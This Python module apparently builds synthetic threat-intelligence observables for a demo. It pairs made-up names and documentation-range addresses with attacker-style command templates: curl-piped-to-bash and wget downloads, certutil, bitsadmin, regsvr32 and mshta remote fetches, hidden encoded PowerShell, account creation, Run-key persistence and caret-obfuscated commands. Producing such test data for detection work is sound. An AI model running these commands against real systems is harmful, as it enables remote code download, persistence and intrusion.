"""Made-up observables: every value holds a made-up name, so that two seeds share none."""

import random
import string
from collections.abc import Callable, Sequence
from dataclasses import dataclass

from ctiforge.records.observable import ARROW, Observable

_ONSETS = [
    "b",
    "br",
    "c",
    "ch",
    "d",
    "dr",
    "f",
    "g",
    "gr",
    "h",
    "j",
    "k",
    "kl",
    "l",
    "m",
    "n",
    "p",
    "pr",
    "qu",
    "r",
    "s",
    "sk",
    "st",
    "t",
    "tr",
    "v",
    "w",
    "z",
]
_VOWELS = ["a", "e", "i", "o", "u", "ai", "ea", "io", "ou"]
_CODAS = ["n", "r", "s", "t", "x", "l", "m", "rk", "nd", "sh"] + [""] * 6
_PARENTS = [
    "winword.exe",
    "excel.exe",
    "outlook.exe",
    "explorer.exe",
    "services.exe",
    "w3wp.exe",
    "wmiprvse.exe",
    "mshta.exe",
    "cmd.exe",
]
_FOLDERS = (
    r"C:\ProgramData",
    r"C:\Users\Public",
    r"C:\Windows\Temp",
    r"C:\Users\Public\Downloads",
    r"%APPDATA%",
    r"%TEMP%",
    r"C:\Windows\System32",
)
_KEYS = (
    r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
    r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
    r"HKLM\SYSTEM\CurrentControlSet\Services",
    r"HKEY_LOCAL_MACHINE\SOFTWARE\Classes",
    r"HKEY_CURRENT_USER\Software",
    r"HKLM\SOFTWARE\Policies\Microsoft",
)


@dataclass(frozen=True)
class DemoItem:
    """An observable and, for a lineage, its two ends."""

    observable: Observable
    parent: str = ""
    child: str = ""


class Names:
    """Made-up names, none of them given out twice."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self._given: set[str] = set()

    def lower(self) -> str:
        """Make a name in lower case: `stranek`."""
        while True:
            syllables = [
                self.rng.choice(_ONSETS) + self.rng.choice(_VOWELS) + self.rng.choice(_CODAS)
                for _ in range(self.rng.choice((2, 2, 3)))
            ]
            name = "".join(syllables)
            if name not in self._given and len(name) > 4:
                self._given.add(name)
                return name

    def camel(self) -> str:
        """Make a name with a capital: `Stranek`."""
        return self.lower().capitalize()

    def domain(self) -> str:
        """Make a domain name, defanged three times in four."""
        dot = self.rng.choice(("[.]", "[.]", "(.)", "."))
        return f"{self.lower()}{dot}{self.rng.choice(('com', 'net', 'org', 'xyz'))}"

    def address(self) -> str:
        """Make an IPv4 address of a documentation range (RFC 5737)."""
        return f"203.0.113.{self.rng.randint(1, 254)}"

    def path(self, extension: str) -> str:
        """Make a Windows path of a made-up file."""
        return f"{self.rng.choice(_FOLDERS)}\\{self.lower()}.{extension}"

    def encoded(self) -> str:
        """Make what looks like a short base64 payload."""
        letters = string.ascii_letters + string.digits
        return "".join(self.rng.choices(letters, k=self.rng.randint(8, 16))) + "=="


def make_item(kind: str, names: Names) -> DemoItem:
    """Make a new observable of one of the six types that the demo knows."""
    return _MAKERS[kind](names)


def _cmdline(names: Names) -> DemoItem:
    draw = names.rng.random()
    if draw < 0.76:
        return _item("cmdline", names.rng.choice(_WINDOWS_COMMANDS)(names), "Windows")
    if draw < 0.92:
        return _item("cmdline", names.rng.choice(_LINUX_COMMANDS)(names), "Linux")
    return _item("cmdline", names.rng.choice(_MACOS_COMMANDS)(names), "MacOS")


def _registry(names: Names) -> DemoItem:
    return _item("registry", f"{names.rng.choice(_KEYS)}\\{names.camel()}", "Windows")


def _service(names: Names) -> DemoItem:
    draw = names.rng.random()
    if draw < 0.2:
        return _item("services", f"{names.lower()}.service", "Linux")
    if draw < 0.35:
        return _item("services", names.path("exe"), "Windows")
    return _item("services", names.camel() + names.rng.choice(("Svc", "Service", "Host", "Agent", "")), "Windows")


def _task(names: Names) -> DemoItem:
    if names.rng.random() < 0.25:
        return _item("scheduled_tasks", f"\\Microsoft\\Windows\\{names.camel()}\\{names.camel()}", "Windows")
    return _item(
        "scheduled_tasks", names.camel() + names.rng.choice(("Update", "Task", "Check", "Sync", "")), "Windows"
    )


def _lineage(names: Names) -> DemoItem:
    parent, child = names.rng.choice(_PARENTS), f"{names.lower()}.exe"
    if names.rng.random() < 0.3:
        parent = f"{names.lower()}.exe"
    observable = Observable(type="process_lineage", value=parent + ARROW + child, platform="Windows")
    return DemoItem(observable, parent, child)


def _query(names: Names) -> DemoItem:
    return _item("hunt_queries", names.rng.choice(_QUERIES)(names), "Windows")


def _item(kind: str, value: str, platform: str) -> DemoItem:
    return DemoItem(Observable(type=kind, value=value, platform=platform))


def _careted(word: str, rng: random.Random) -> str:
    return "".join(letter + ("^" if rng.random() < 0.5 else "") for letter in word[:-1]) + word[-1]


def _mixed_case(word: str, rng: random.Random) -> str:
    return "".join(rng.choice((letter.upper(), letter)) for letter in word)


_MAKERS: dict[str, Callable[[Names], DemoItem]] = {
    "cmdline": _cmdline,
    "registry": _registry,
    "services": _service,
    "scheduled_tasks": _task,
    "process_lineage": _lineage,
    "hunt_queries": _query,
}
_WINDOWS_COMMANDS: Sequence[Callable[[Names], str]] = (
    lambda n: f"rundll32.exe {n.path('dll')},{n.camel()}",
    lambda n: f"rundll32 {n.path('dat')},#{n.rng.randint(1, 9)}",
    lambda n: f"powershell -nop -w hidden -enc {n.encoded()}",
    lambda n: f'powershell.exe -ep bypass -file "{n.path("ps1")}"',
    lambda n: f'cmd.exe /c "{n.path("bat")} {n.lower()}"',
    lambda n: f"cmd /c start /b {n.path('exe')} -{n.rng.choice('abdkpst')} {n.lower()}",
    lambda n: f"certutil -urlcache -f hxxp://{n.domain()}/{n.lower()} {n.lower()}.exe",
    lambda n: f"bitsadmin /transfer {n.lower()} http://{n.domain()}/{n.lower()}.bin",
    lambda n: f"regsvr32 /s /n /i:http://{n.domain()}/{n.lower()}.sct scrobj.dll",
    lambda n: f"mshta http://{n.domain()}/{n.lower()}.hta",
    lambda n: f"net user {n.lower()} {n.camel()}{n.rng.randint(10, 99)}! /add",
    lambda n: f"net group {n.camel()} /domain",
    lambda n: f"wmic /node:{n.address()} process call create {n.path('exe')}",
    lambda n: f"schtasks /create /tn {n.camel()} /tr {n.path('exe')} /sc daily",
    lambda n: f"sc create {n.camel()} binPath= {n.path('exe')} start= auto",
    lambda n: f"reg add {n.rng.choice(_KEYS[:2])} /v {n.camel()} /f",
    lambda n: f"{n.lower()}.exe --{n.lower()} {n.address()}:{n.rng.choice((443, 8080, 4444))}",
    lambda n: f"{n.path('exe')} -{n.rng.choice('abdkpst')} {n.lower()}",
    lambda n: f"{_careted('cmd', n.rng)} /c {_careted('start', n.rng)} {n.path('exe')}",
    lambda n: f"{_mixed_case('powershell', n.rng)} -e {n.encoded()}",
    lambda n: f"cmd /c ^\n    {n.path('exe')} -{n.rng.choice('abdkpst')} {n.lower()}",
    lambda n: f"powershell -nop `\n    -file {n.path('ps1')}",
)
_LINUX_COMMANDS: Sequence[Callable[[Names], str]] = (
    lambda n: f"curl -s http://{n.domain()}/{n.lower()}.sh | bash",
    lambda n: f"wget -q -O /tmp/{n.lower()} http://{n.address()}/{n.lower()}",
    lambda n: f"chmod +x /var/tmp/{n.lower()}",
    lambda n: f"nohup /dev/shm/{n.lower()} -c {n.lower()} &",
    lambda n: f"python3 -c 'import {n.lower()}'",
)
_MACOS_COMMANDS: Sequence[Callable[[Names], str]] = (
    lambda n: f"launchctl load /Library/LaunchDaemons/com.{n.lower()}.plist",
    lambda n: f"osascript -e 'do shell script \"/tmp/{n.lower()}\"'",
    lambda n: f"xattr -c /Applications/{n.camel()}.app",
)
_QUERIES: Sequence[Callable[[Names], str]] = (
    lambda n: f'DeviceProcessEvents | where FileName =~ "{n.lower()}.exe"',
    lambda n: f'DeviceProcessEvents | where ProcessCommandLine contains "{n.lower()}"',
    lambda n: f'index=main EventCode=4688 Image="*\\{n.lower()}.exe"',
    lambda n: f"event_simpleName=ProcessRollup2 FileName={n.lower()}.exe",
    lambda n: f'process where process.name == "{n.lower()}.exe"',
)
